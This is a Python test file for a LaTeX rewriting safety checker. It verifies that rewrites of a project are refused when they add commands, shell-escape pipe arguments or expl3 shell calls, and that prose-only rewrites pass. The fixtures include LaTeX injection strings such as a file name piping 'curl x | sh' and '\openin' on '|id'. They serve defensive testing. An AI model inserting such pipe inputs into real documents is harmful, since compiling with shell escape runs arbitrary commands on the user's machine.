"""What a rewrite may introduce: the original's commands plus prose markup; no pipe arguments.

Measured on generated corpora (:mod:`tests.rewriting.latex_project.safety_corpus`): 76 shell, pipe
and Lua attempts against a synthetic project whose text already uses every programming command the
attempts need (so the vocabulary rule alone cannot refuse them) and against the smallest shared
project; 126 prose-only rewrites (7 dimensions x 3 paragraph shares x 6 shared projects).
"""

from __future__ import annotations

from pathlib import Path


from rhetorica.rewriting.latex_project.anchors import check_anchors
from rhetorica.documents.latex.project import LatexProject, copy_project, load_project
from rhetorica.rewriting.latex_project.vocabulary import code_lines, pipe_arguments, vocabulary
from tests.rewriting.latex_project.safety_corpus import (
    PROSE_DIMENSIONS,
    SHARES,
    add_after_first_paragraph,
    attempts,
    prose_rewrite,
)


def test_vocabulary_and_pipes_of_code_lines() -> None:
    text = ("A \\emph{b} % \\catcode\n"
            "\\begin{verbatim}\n\\write18\n\\end{verbatim}\n"
            "\\verb|\\x| and \\begin{itemize}\\item ^^5cfoo\\\\ \\,\n"
            "\\input{|\"ls\"} $|x|$ \\IfFileExists{ | cat  x}{}{} \\openin1=\"|id\"\n")
    lines = code_lines(text)
    assert list(vocabulary(lines)) == [  # the comment, the verbatim block and \verb are not code
        (1, "\\emph"), (5, "\\begin"), (5, "\\item"), (5, "\\foo"), (5, "\\\\"), (5, "\\,"), (5, "{itemize}"),
        (6, "\\input"), (6, "\\IfFileExists"), (6, "\\openin")]
    assert list(pipe_arguments(lines)) == [(6, '{|"ls"'), (6, "{ | cat x"), (6, '="|id"')]


def _mini(root: Path, body: str, files: dict[str, str] | None = None) -> LatexProject:
    root.mkdir(parents=True)
    (root / "main.tex").write_text("\\documentclass{article}\n\\begin{document}\n" + body + "\\end{document}\n")
    for name, text in (files or {}).items():
        (root / name).write_text(text)
    return load_project(root)


def test_a_new_command_or_environment_is_named_with_its_line(tmp_path: Path) -> None:
    base = _mini(tmp_path / "b", "We use \\textsc{Ours} and \\cite{a} here in this paragraph.\n")
    var = copy_project(base, tmp_path / "v")
    (var.root / "main.tex").write_text((base.root / "main.tex").read_text().replace(
        "here in", "here\\footnote{\\emph{Really}, ``yes''~now.} in\n\\begin{center}x\\end{center} "
                   "\\ExplSyntaxOn \\sys_shell_now:n {ls} \\ExplSyntaxOff\n\\begin{quote}\\textsc{Ours}\\end{quote}"))
    got = [(v.kind, v.line, v.found) for v in check_anchors(base, load_project(var.root)).violations]
    assert got == [("command", 4, "\\ExplSyntaxOn"), ("command", 4, "\\sys"), ("command", 4, "\\ExplSyntaxOff"),
                   ("command", 4, "{center}")]


def test_a_pipe_argument_is_refused_and_one_the_original_had_may_move(tmp_path: Path) -> None:
    table = "\\begin{tabular}{|c|c|}a&b\\end{tabular}\n"
    body = "Some words of prose here \\IfFileExists{sec.tex}{}{} and more.\n\n" + table
    base = _mini(tmp_path / "b", body, {"sec.tex": "Section.\n"})
    var = copy_project(base, tmp_path / "v")
    moved = table + "\n" + body.replace(table, "").replace("and more.", "and more \\IfFileExists{ |\"curl x | sh\"}{}{}.")
    (var.root / "main.tex").write_text((base.root / "main.tex").read_text().replace(body, moved))
    (v,) = check_anchors(base, load_project(var.root)).violations
    assert v.message == ("main.tex:5: dangerous: '{ |\"curl x | sh\"' names a pipe: a file name starting with '|' "
                         "is a shell command (run whenever shell escape is on)")


#: A project whose text already uses every programming command the attempts are made of (\\def,
#: \\let, \\csname, \\catcode, \\immediate\\write, \\openin, \\input, \\IfFileExists, expl3, ...): the
#: vocabulary rule allows those names here, so the other rules must refuse each attempt.
RICH = ("\\def\\a{x}\\let\\b\\relax\\expandafter\\def\\csname c\\endcsname{y}\\edef\\d{\\a}\\gdef\\e{}\\xdef\\f{}\n"
        "\\newcommand{\\g}{z}\\immediate\\write\\sixt@@n{msg}\\input{sec}\\makeatletter\\makeatother\\string\\x\n"
        "\\IfFileExists{sec.tex}{}{}\\InputIfFileExists{sec.tex}{}{}\\newread\\r\\openin\\r=sec.tex \\closein\\r\n"
        "\\ExplSyntaxOn \\ExplSyntaxOff \\catcode`\\@=11 \\lowercase{x}\\scantokens{x}\\noexpand\\x\\everypar{}\n"
        "\\AtEndDocument{}\\futurelet\\x\\relax\\global\\let\\h\\relax\\numexpr1\\relax\\romannumeral0 \\usepackage{x}\n"
        "\\NewDocumentCommand\\k{m}{#1}\\DeclareRobustCommand\\l{}\\providecommand\\m{}\\afterassignment\\relax\n\n"
        "This is the first paragraph of ordinary prose with enough words to be editable here.\n")


def _refusals(base: LatexProject, tmp_path: Path) -> tuple[int, int, list[str]]:
    """(attempts refused, refused on the added line, names of those passing)."""
    refused = located = 0
    passing = []
    for i, attempt in enumerate(attempts()):
        variant = copy_project(base, tmp_path / f"v{i}")
        file, line = add_after_first_paragraph(variant, attempt)
        report = check_anchors(base, load_project(variant.root, variant.main))
        refused += not report.ok
        located += any(v.file == file and v.line == line and v.kind in {"command", "dangerous"} for v in report.violations)
        if report.ok:
            passing.append(attempt.name)
    return refused, located, passing


def test_every_generated_attempt_is_refused_even_where_its_commands_are_in_use(tmp_path: Path) -> None:
    assert len(attempts()) == 76
    base = _mini(tmp_path / "base", RICH, {"sec.tex": "Section text.\n"})
    # every attempt refused; all but the new .sty on its own line (\\usepackage is in use here:
    # the new file evil.sty is the violation)
    assert _refusals(base, tmp_path) == (76, 75, [])


def test_every_generated_attempt_is_refused_on_its_line_in_a_shared_project(shared_data: Path, tmp_path: Path) -> None:
    base = load_project(shared_data / "papers" / "gcrn_iclr2017")
    assert _refusals(base, tmp_path) == (76, 76, [])


def test_prose_only_rewrites_of_every_shared_project_pass(project: LatexProject, tmp_path: Path) -> None:
    """7 dimensions x 3 shares per project: 21 rewrites each, 126 over the six projects."""
    changed = 0
    for dimension in PROSE_DIMENSIONS:
        for share in range(SHARES):
            variant = copy_project(project, tmp_path / f"{dimension}-{share}")
            changed += prose_rewrite(variant, dimension, share) > 0
            report = check_anchors(project, load_project(variant.root, variant.main))
            assert report.messages == (), (dimension, share)
    assert changed == len(PROSE_DIMENSIONS) * SHARES  # every rewrite changed something
